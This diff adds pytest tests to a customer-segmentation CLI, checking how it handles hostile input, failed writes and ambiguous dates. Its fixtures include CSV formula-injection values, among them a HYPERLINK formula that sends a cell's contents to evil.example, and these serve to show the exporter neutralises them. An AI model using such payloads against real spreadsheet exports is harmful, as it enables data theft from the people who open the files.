@@ -236,3 +236,187 @@ def test_cli_too_little_data_says_what_is_missing(tmp_path):
     assert proc.returncode == 0, proc.stderr
     assert ("warning: churn columns left empty: 流失预警至少需要 20 位有购买记录的客户；"
             "当前数据只有 5 位") in proc.stderr
+
+
+# --------------------------------------------------------------------------- hostile input
+# The corpus of tests/hostile.py through the CLI, in-process (main() returns the exit code;
+# an exception escaping it would be the traceback a user sees).
+
+from segmentation.__main__ import main  # noqa: E402
+from tests.hostile import CASES, TODAY, csv_bytes  # noqa: E402
+
+
+def _errors(err: str) -> list[str]:
+    """The stderr lines that are not warnings (one ``error:`` line on failure, nothing else)."""
+    return [line for line in err.strip().splitlines() if not line.startswith("warning: ")]
+
+
+def _write_files(case, folder: Path) -> list[str]:
+    args = []
+    for table, (name, data) in case.files.items():
+        path = folder / name
+        path.write_bytes(data)
+        args += [f"--{table}", str(path)]
+    return args
+
+
+@pytest.mark.parametrize("lang", ["en", "zh"])
+@pytest.mark.parametrize("case", CASES, ids=[c.id for c in CASES])
+def test_cli_hostile_corpus(case, lang, tmp_path, capsys):
+    out = tmp_path / "out" / "scores.xlsx"
+    code = main(["score", *_write_files(case, tmp_path), "--no-churn", "--clusters", "2",
+                 "--lang", lang, "--out", str(out)])
+    err = capsys.readouterr().err
+    assert "Traceback" not in err
+    fragment = case.en if lang == "en" else case.zh
+    if case.outcome == "loaded":
+        assert code == 0, err
+        scored = pd.read_excel(out, dtype={"customer_id": str})
+        assert len(scored) == case.customers
+        if case.code:
+            warnings = [line for line in err.splitlines() if line.startswith("warning: ")]
+            assert any(fragment in line for line in warnings), err
+    else:
+        assert code == 2
+        lines = err.strip().splitlines()
+        assert len(lines) == 1 and lines[0].startswith("error: ")
+        assert fragment in lines[0]
+        assert not out.exists() and not list((tmp_path / "out").glob("*"))
+
+
+HOSTILE_NAMES = ["=HYPERLINK(\"http://evil.example/?\"&A2,\"click\")", "@SUM(A1:A9)",
+                 "+86 138 0000 0000", "-2+3", "\tcmd", "Zhang\x00Wei\x0b"]
+
+
+@pytest.fixture
+def formula_files(tmp_path) -> list[str]:
+    ids = ["=1+1", "@C2", "C3", "-C4", "C5", "C6"]
+    tx = [["customer_id", "date", "amount"]] + [
+        [ids[i % 6], f"2024-01-{10 + i}", 10 + i] for i in range(18)]
+    customers = [["customer_id", "name"]] + [[ids[i], HOSTILE_NAMES[i]] for i in range(6)]
+    (tmp_path / "tx.csv").write_bytes(csv_bytes(tx))
+    # quoted, so that the commas and quotes inside the names stay in one field
+    pd.DataFrame(customers[1:], columns=customers[0]).to_csv(tmp_path / "c.csv", index=False)
+    return ["--transactions", str(tmp_path / "tx.csv"), "--customers", str(tmp_path / "c.csv")]
+
+
+def test_cli_csv_output_has_no_live_formulas(formula_files, tmp_path, capsys):
+    out = tmp_path / "scores.csv"
+    assert main(["score", *formula_files, "--no-churn", "--clusters", "2", "--out",
+                 str(out)]) == 0
+    capsys.readouterr()
+    back = pd.read_csv(out, dtype=str, keep_default_na=False, encoding="utf-8-sig")
+    cells = back.to_numpy().ravel()
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert "'=1+1" in back["customer_id"].tolist()
+    assert "'=HYPERLINK(\"http://evil.example/?\"&A2,\"click\")" in back["name"].tolist()
+
+
+def test_cli_xlsx_output_has_no_formula_cells_and_no_control_characters(formula_files,
+                                                                       tmp_path, capsys):
+    import openpyxl
+
+    out = tmp_path / "scores.xlsx"
+    assert main(["score", *formula_files, "--no-churn", "--clusters", "2", "--out",
+                 str(out)]) == 0
+    err = capsys.readouterr().err
+    assert "invisible control characters" in err  # the NUL / \x0b in a name, at load time
+    sheet = openpyxl.load_workbook(out).active
+    cells = [c for row in sheet.iter_rows() for c in row]
+    assert cells and all(c.data_type != "f" for c in cells)
+    values = {c.value for c in cells}
+    assert "'@SUM(A1:A9)" in values and "ZhangWei" in values and "'=1+1" in values
+
+
+def test_cli_future_date_is_not_the_default_analysis_date(tmp_path, capsys):
+    rows = [["customer_id", "date", "amount"]] + [
+        [f"C{i % 3}", f"2024-03-{i + 1:02d}", 10] for i in range(15)] + [
+        ["C0", "2099-01-01", 10]]
+    (tmp_path / "tx.csv").write_bytes(csv_bytes(rows))
+    out = tmp_path / "o.csv"
+    assert main(["score", "--transactions", str(tmp_path / "tx.csv"), "--no-churn",
+                 "--clusters", "2", "--out", str(out)]) == 0
+    assert "dated in the future (after " + TODAY.strftime("%Y-%m-%d") in capsys.readouterr().err
+    scored = pd.read_csv(out, encoding="utf-8-sig").set_index("customer_id")
+    # as_of is 2024-03-15 (the last real date), not 2099-01-01
+    assert scored["recency_days"].min() == 0
+    assert scored.loc["C2", "recency_days"] == 0 and scored.loc["C0", "recency_days"] == 2
+    assert scored.loc["C0", "frequency"] == 5
+
+
+def test_cli_keeps_no_partial_file_when_writing_fails(tmp_path, capsys, monkeypatch):
+    from segmentation import export
+
+    (tmp_path / "tx.csv").write_bytes(csv_bytes([["customer_id", "date", "amount"]] + [
+        [f"C{i % 3}", f"2024-03-{i + 1:02d}", 10] for i in range(9)]))
+    out = tmp_path / "scores.xlsx"
+    out.write_bytes(b"yesterday's scores")
+
+    def broken(target, sheets, headers):
+        target.write(b"PK\x03\x04 half a workbook")
+        raise OSError(28, "No space left on device")
+
+    monkeypatch.setattr(export, "_write_excel", broken)
+    code = main(["score", "--transactions", str(tmp_path / "tx.csv"), "--no-churn",
+                 "--clusters", "2", "--out", str(out)])
+    err = _errors(capsys.readouterr().err)
+    assert code == 2 and len(err) == 1
+    assert err[0] == (f"error: --out {out}: the file could not be written (No space left on "
+                      "device); nothing was written")
+    assert out.read_bytes() == b"yesterday's scores"  # the old file is untouched
+    assert main(["score", "--transactions", str(tmp_path / "tx.csv"), "--no-churn",
+                 "--clusters", "2", "--lang", "zh", "--out", str(out)]) == 2
+    assert _errors(capsys.readouterr().err) == [
+        f"error: --out {out}：无法写入文件（No space left on device），未写入任何内容"]
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["scores.xlsx", "tx.csv"]
+    monkeypatch.setattr(export, "_write_excel", lambda *a: (_ for _ in ()).throw(
+        RuntimeError("boom\nsecond line")))
+    assert main(["score", "--transactions", str(tmp_path / "tx.csv"), "--no-churn",
+                 "--clusters", "2", "--lang", "zh", "--out", str(out)]) == 1
+    err = _errors(capsys.readouterr().err)
+    assert err == ["error: 发生意外问题（RuntimeError：boom second line），未写入输出文件"]
+    assert main(["score", "--transactions", str(tmp_path / "tx.csv"), "--no-churn",
+                 "--clusters", "2", "--out", str(out)]) == 1
+    assert _errors(capsys.readouterr().err) == [
+        "error: unexpected problem (RuntimeError: boom second line); no output file was written"]
+    assert out.read_bytes() == b"yesterday's scores"
+
+
+def test_cli_output_folder_that_cannot_be_written(tmp_path, capsys):
+    (tmp_path / "tx.csv").write_bytes(csv_bytes([["customer_id", "date", "amount"]] + [
+        [f"C{i % 3}", f"2024-03-{i + 1:02d}", 10] for i in range(9)]))
+    (tmp_path / "taken").write_text("a file, not a folder")
+    code = main(["score", "--transactions", str(tmp_path / "tx.csv"), "--no-churn",
+                 "--clusters", "2", "--out", str(tmp_path / "taken" / "o.csv")])
+    err = _errors(capsys.readouterr().err)
+    assert code == 2 and len(err) == 1 and "could not be written" in err[0]
+
+
+def test_cli_hostile_xlsx_output_in_a_real_process(tmp_path):
+    """Regression: NUL in an id made `--out x.xlsx` exit 1 with a traceback and a header-only
+    file; now the id is cleaned at load time and the workbook is written."""
+    rows = [["customer_id", "date", "amount"]] + [
+        [f"C\x00{i % 3}" if i % 2 else f"C{i % 3}", f"2024-03-{i + 1:02d}", 10]
+        for i in range(9)]
+    (tmp_path / "tx.csv").write_bytes(csv_bytes(rows))
+    out = tmp_path / "o.xlsx"
+    proc = run_cli("score", "--transactions", str(tmp_path / "tx.csv"), "--no-churn",
+                   "--clusters", "2", "--out", str(out))
+    assert proc.returncode == 0, proc.stderr
+    assert "Traceback" not in proc.stderr
+    assert sorted(pd.read_excel(out)["customer_id"]) == ["C0", "C1", "C2"]
+
+
+@pytest.mark.parametrize(("order", "recency"), [("day-first", {"C1": 0, "C2": 59}),
+                                                ("month-first", {"C1": 29, "C2": 0}),
+                                                ("auto", {"C1": 29, "C2": 0})])
+def test_cli_date_order(order, recency, tmp_path, capsys):
+    (tmp_path / "tx.csv").write_bytes(csv_bytes([["customer_id", "date", "amount"],
+                                                 ["C1", "01/03/2024", 5], ["C2", "02/01/2024", 6]]))
+    out = tmp_path / "o.csv"
+    assert main(["score", "--transactions", str(tmp_path / "tx.csv"), "--date-order", order,
+                 "--no-churn", "--clusters", "2", "--out", str(out)]) == 0
+    err = capsys.readouterr().err
+    assert ("could be day/month or month/day" in err) == (order == "auto")
+    scored = pd.read_csv(out, encoding="utf-8-sig").set_index("customer_id")
+    assert scored["recency_days"].to_dict() == recency
